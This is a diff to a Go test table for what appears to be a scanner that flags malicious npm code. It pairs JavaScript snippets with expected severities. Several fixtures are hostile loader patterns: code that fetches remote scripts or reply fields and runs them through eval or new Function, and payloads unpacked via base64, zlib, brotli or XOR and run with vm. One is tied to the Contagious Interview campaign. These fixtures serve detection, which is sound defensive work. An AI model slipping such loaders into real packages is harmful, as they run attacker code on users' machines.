@@ -29,6 +29,10 @@ module.exports = async () => { try { await axios.get(url) } catch (err) { run(er
 		// running Yarn's .pnp.cjs next to its registry calls)
 		{"commonjs_wrapper_with_requests", map[string]string{"index.js": `const fs = require("fs"); fetch(registry); module.exports = p => { const m = { exports: {} }; new Function("module", "exports", "require", fs.readFileSync(p, "utf8").replace(/^#!.*/, ""))(m, m.exports, require); return m.exports }`}, finding.SeverityNone},
 		{"compiled_wrapper_with_requests", map[string]string{"index.js": `const fs_1 = require("fs"); fetch(registry); exports.load = p => new Function("module", "exports", "require", (0, fs_1.readFileSync)(p, "utf-8"))(m, m.exports, require)`}, finding.SeverityNone},
+		// a module loader runs the script at the URL it is given; a field
+		// of a reply from such a URL is a payload (Contagious Interview)
+		{"amd_loader", map[string]string{"index.js": "exports.load = (url, done) => fetch(url).then(r => r.text()).then(src => { (0, eval)(src + \"\\n//# sourceURL=\" + url); done() })"}, finding.SeverityHigh},
+		{"reply_field_from_given_url", map[string]string{"index.js": `const axios = require("axios"); exports.sync = async (des) => { const res = await axios.get(des); eval(res.data.cookie) }`}, finding.SeverityCritical},
 		{"await_axios", map[string]string{"index.js": `const axios = require("axios"); (async () => { const r = await axios.get("https://x.invalid/c"); eval(r.data.code) })()`}, finding.SeverityCritical},
 		{"https_callback", map[string]string{"index.js": `require("https").get("https://x.invalid", res => { let b=""; res.on("data", d => b += d); res.on("end", () => new Function(res.body)()) })`}, finding.SeverityCritical},
 		{"fetch_then", map[string]string{"index.js": `fetch("https://x.invalid/p").then(resp => eval(resp.text))`}, finding.SeverityCritical},
@@ -58,6 +62,13 @@ const img = fs.readFileSync(path.join(__dirname, "assets", "logo.png")); eval(im
 		{"inflate_helper", map[string]string{"index.js": `const zlib = require("zlib"), vm = require("vm"); function inflate(b) { return zlib.inflateSync(Buffer.from(b, "base64")).toString("utf8") } vm.runInThisContext(inflate(require("./manifest")))(require)`}, finding.SeverityHigh},
 		{"brotli_script", map[string]string{"index.js": `const { brotliDecompressSync } = require("zlib"); const { Script } = require("vm"); const src = brotliDecompressSync(Buffer.from(data, "base64")).toString(); new Script(src).runInThisContext()`}, finding.SeverityHigh},
 		{"text_decoder_function", map[string]string{"index.js": `const body = new TextDecoder().decode(bytes); new Function("require", body)(require)`}, finding.SeverityHigh},
+		// wasm-bindgen's glue builds functions from strings the module
+		// keeps in its memory
+		{"wasm_bindgen_glue", map[string]string{"index.js": `let wasm; const cachedTextDecoder = new TextDecoder("utf-8"); function getUint8ArrayMemory0() { return new Uint8Array(wasm.memory.buffer) }
+function getStringFromWasm0(ptr, len) { ptr = ptr >>> 0; return cachedTextDecoder.decode(getUint8ArrayMemory0().subarray(ptr, ptr + len)) }
+exports.__wbg_newnoargs = function (arg0, arg1) { return new Function(getStringFromWasm0(arg0, arg1)) }`}, finding.SeverityNone},
+		// a dev server's overlay filter, passed URL-encoded in its query
+		{"uri_decoded_filter", map[string]string{"index.js": "const o = parse(__resourceQuery); for (const k of [\"warnings\", \"errors\"]) { const src = decodeURIComponent(o[k]); o[k] = new Function(\"message\", `var callback = ${src}\nreturn callback(message)`) }"}, finding.SeverityNone},
 		{"xor_loop_compile", map[string]string{"index.js": `const K = "crc32/IEEE"; function unwhiten(b) { const o = Buffer.alloc(b.length); for (let i = 0; i < b.length; i++) o[i] = b[i] ^ K.charCodeAt(i % K.length); return o }
 const ref = unwhiten(V); const m = new module.constructor("x", module); m._compile(ref.toString("utf8"), __filename)`}, finding.SeverityHigh},
 		// a hash is XOR too, and its value is not code
